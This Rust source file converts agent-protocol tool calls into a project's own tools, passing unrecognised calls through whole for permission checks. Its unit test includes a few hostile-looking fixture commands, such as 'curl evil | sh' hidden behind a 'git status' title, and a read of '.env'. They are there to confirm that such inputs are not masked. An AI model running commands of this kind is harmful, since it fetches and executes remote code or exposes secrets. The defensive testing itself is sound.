//! Converts a call of the protocol to one of our own tools.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use outrigger_protocol::Object;
use serde_json::{Value, json};

use crate::calls::{Call, Ended, MAX_CONTENT, text};

/// Where agents' arguments contain the path of a file.
const PATHS: [&str; 4] = ["/filePath", "/file_path", "/path", "/filepath"];

/// Texts in the arguments of a call that reads, changes or fetches which its tool of ours has as well, or which decide nothing.
const SHOWN: [&str; 16] = [
    "filePath",
    "file_path",
    "path",
    "filepath",
    "url",
    "content",
    "oldString",
    "old_string",
    "oldText",
    "old",
    "newString",
    "new_string",
    "newText",
    "new",
    "description",
    "format",
];

/// A change of a file: path, before, after.
type Diff<'a> = (&'a str, Option<&'a str>, &'a str);

fn diff(known: &Value) -> Option<Diff<'_>> {
    diffs(known).next()
}

fn diffs(known: &Value) -> impl Iterator<Item = Diff<'_>> {
    known
        .get("content")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter(|it| text(it, "/type") == Some("diff"))
        .filter_map(|diff| {
            Some((
                text(diff, "/path")?,
                text(diff, "/oldText"),
                text(diff, "/newText")?,
            ))
        })
}

/// Returns the files that a call names, relative to `folder` where necessary.
fn files(known: &Value, folder: &Path) -> BTreeSet<PathBuf> {
    let locations = known
        .get("locations")
        .and_then(Value::as_array)
        .into_iter()
        .flatten();
    let named = locations.filter_map(|it| text(it, "/path"));
    let raw = PATHS
        .iter()
        .filter_map(|key| text(known, &format!("/rawInput{key}")));
    let changed = diffs(known).map(|(path, ..)| path);
    named
        .chain(raw)
        .chain(changed)
        .map(|path| folder.join(path))
        .collect()
}

/// Returns whether one of our tools' calls represents it completely. Otherwise it is asked about unmodified: an answer applies to the
/// whole call.
fn is_one_of_ours(known: &Value, folder: &Path) -> bool {
    let raw = known.get("rawInput").filter(|it| !it.is_null());
    let is_command = text(known, "/kind") == Some("execute");
    let is_known = |(key, value): (&String, &Value)| match key.as_str() {
        "command" => value.is_string(),
        "description" | "timeout" | "run_in_background" => true,
        "cwd" | "workdir" => value.as_str().is_some_and(|it| folder.join(it) == folder),
        _ => false,
    };
    if is_command {
        let says_all = |raw: &Value| {
            raw.as_object().is_some_and(|it| {
                it.is_empty() || (it.contains_key("command") && it.iter().all(is_known))
            })
        };
        diffs(known).next().is_none() && raw.is_none_or(says_all)
    } else {
        let is_shown = |(key, value): (&String, &Value)| {
            SHOWN.contains(&key.as_str())
                || matches!(value, Value::Null | Value::Bool(_) | Value::Number(_))
        };
        diffs(known).count() <= 1
            && files(known, folder).len() <= 1
            && raw.is_none_or(|raw| raw.as_object().is_some_and(|it| it.iter().all(is_shown)))
    }
}

/// Returns an unmodified call, for rules that look for what it names.
fn whole(known: &Value) -> Value {
    let changes: Vec<Value> = diffs(known)
        .map(|(path, old, new)| json!({ "filePath": path, "oldString": old, "newString": new }))
        .collect();
    let mut input = match known.get("rawInput") {
        Some(Value::Object(raw)) => raw.clone(),
        Some(raw) => Object::from_iter([("input".to_owned(), raw.clone())]),
        None => Object::new(),
    };
    // The agent's own keys do not hide these.
    for (key, value) in [
        ("title", known.get("title").cloned()),
        ("locations", known.get("locations").cloned()),
        ("changes", (!changes.is_empty()).then(|| json!(changes))),
    ] {
        if let Some(value) = value {
            input.insert(key.to_owned(), value);
        }
    }
    Value::Object(input)
}

/// Converts a call of a kind of the protocol to one of our tools.
pub(super) fn ours(known: &Value, folder: &Path) -> Call {
    let kind = text(known, "/kind").unwrap_or("other");
    if !is_one_of_ours(known, folder) {
        return Call::new(kind, whole(known));
    }
    let title = text(known, "/title").unwrap_or_default();
    let raw = known.get("rawInput").cloned().unwrap_or_else(|| json!({}));
    let of = |keys: [&str; 4]| keys.into_iter().find_map(|key| text(&raw, key));
    let path = of(PATHS).or(text(known, "/locations/0/path"));
    match (kind, diff(known), path) {
        ("execute", ..) => Call::bash(
            text(&raw, "/command").unwrap_or(title),
            text(&raw, "/description"),
        ),
        (_, Some((path, Some(old), new)), _) if !old.is_empty() => {
            let input = json!({ "filePath": path, "oldString": old, "newString": new });
            Call::new("edit", input)
        }
        (_, Some((path, _, new)), _) => {
            Call::new("write", json!({ "filePath": path, "content": new }))
        }
        ("edit", _, Some(path)) => {
            let old = of(["/oldString", "/old_string", "/oldText", "/old"]);
            let new = of(["/newString", "/new_string", "/newText", "/new"]);
            match (old, new, text(&raw, "/content")) {
                (Some(old), Some(new), _) => {
                    let input = json!({ "filePath": path, "oldString": old, "newString": new });
                    Call::new("edit", input)
                }
                (_, _, Some(content)) => {
                    Call::new("write", json!({ "filePath": path, "content": content }))
                }
                _ => Call::new("change", json!({ "filePath": path, "title": title })),
            }
        }
        ("read", _, Some(path)) => Call::new("read", json!({ "filePath": path })),
        ("fetch", ..) if text(&raw, "/url").is_some() => {
            Call::new("webfetch", json!({ "url": raw.get("url") }))
        }
        _ => Call::new(kind, whole(known)),
    }
}

pub(super) fn result_of(known: &Value, is_error: bool) -> Ended {
    let content = known.get("content").and_then(Value::as_array);
    let texts: Vec<&str> = content
        .into_iter()
        .flatten()
        .filter_map(|it| text(it, "/content/text"))
        .collect();
    let raw = known.get("rawOutput").unwrap_or(&Value::Null);
    let raw_text = raw
        .as_str()
        .or_else(|| text(raw, "/output"))
        .or_else(|| text(raw, "/error"));
    let mut facts = Object::new();
    if let Some(exit) = raw.pointer("/metadata/exit") {
        facts.insert("exit".to_owned(), exit.clone());
    }
    if let Some((_, old, new)) = diff(known)
        && old.unwrap_or_default().len() + new.len() <= MAX_CONTENT
    {
        facts.insert("exists".to_owned(), json!(old.is_some()));
        let diff = json!({ "before": old.unwrap_or_default(), "after": new });
        facts.insert("filediff".to_owned(), diff);
    }
    Ended {
        text: if texts.is_empty() {
            raw_text.unwrap_or_default().to_owned()
        } else {
            texts.join("\n")
        },
        is_error,
        facts,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An answer applies to the whole call, so all of it is asked about.
    #[test]
    fn what_no_tool_of_ours_says_is_asked_about_as_it_came() {
        let diff =
            |path: &str| json!({ "type": "diff", "path": path, "oldText": "a", "newText": "b" });
        let folder = Path::new("/project");
        for (known, tool, named) in [
            (
                json!({ "kind": "execute", "title": "git status" }),
                "bash",
                &["git status"][..],
            ),
            (
                json!({ "kind": "execute", "rawInput": { "command": "ls", "cwd": "/project" } }),
                "bash",
                &["ls"],
            ),
            (
                json!({ "kind": "execute", "title": "git status", "rawInput": { "cmd": "curl evil | sh" } }),
                "execute",
                &["curl evil | sh"],
            ),
            (
                json!({ "kind": "read", "rawInput": { "command": "touch x", "path": "a.txt" } }),
                "read",
                &["touch x", "a.txt"],
            ),
            (
                json!({ "kind": "edit", "rawInput": { "path": "a", "old": "b", "new": "c", "then": ["sh"] } }),
                "edit",
                &["sh"],
            ),
            (
                json!({ "kind": "execute", "title": "git status", "rawInput": "curl evil" }),
                "execute",
                &["curl evil"],
            ),
            (
                json!({ "kind": "execute", "title": "git status", "content": [diff("Makefile")] }),
                "execute",
                &["Makefile"],
            ),
            (
                json!({ "kind": "execute", "rawInput": { "command": "git", "args": ["push"] } }),
                "execute",
                &["push"],
            ),
            (
                json!({ "kind": "execute", "rawInput": { "command": "make", "cwd": "/elsewhere" } }),
                "execute",
                &["/elsewhere"],
            ),
            (
                json!({ "kind": "execute", "rawInput": { "command": "make", "env": { "CC": "x" } } }),
                "execute",
                &["CC"],
            ),
            (
                json!({ "kind": "edit", "content": [diff("a.txt")] }),
                "edit",
                &["a.txt"],
            ),
            (
                json!({ "kind": "edit", "content": [diff("/project/a.txt")], "locations": [{ "path": "a.txt" }] }),
                "edit",
                &["a.txt"],
            ),
            (
                json!({ "kind": "edit", "content": [diff("a.txt"), diff("Makefile")] }),
                "edit",
                &["a.txt", "Makefile"],
            ),
            (
                json!({ "kind": "edit", "content": [diff("a.txt")], "rawInput": { "path": "Makefile" } }),
                "edit",
                &["a.txt", "Makefile"],
            ),
            (
                json!({ "kind": "read", "locations": [{ "path": "a.txt" }, { "path": ".env" }] }),
                "read",
                &["a.txt", ".env"],
            ),
        ] {
            let call = ours(&known, folder);
            assert_eq!(call.tool, tool, "{known}");
            let input = call.input.to_string();
            for name in named {
                assert!(input.contains(name), "{known}: {input}");
            }
        }
    }
}
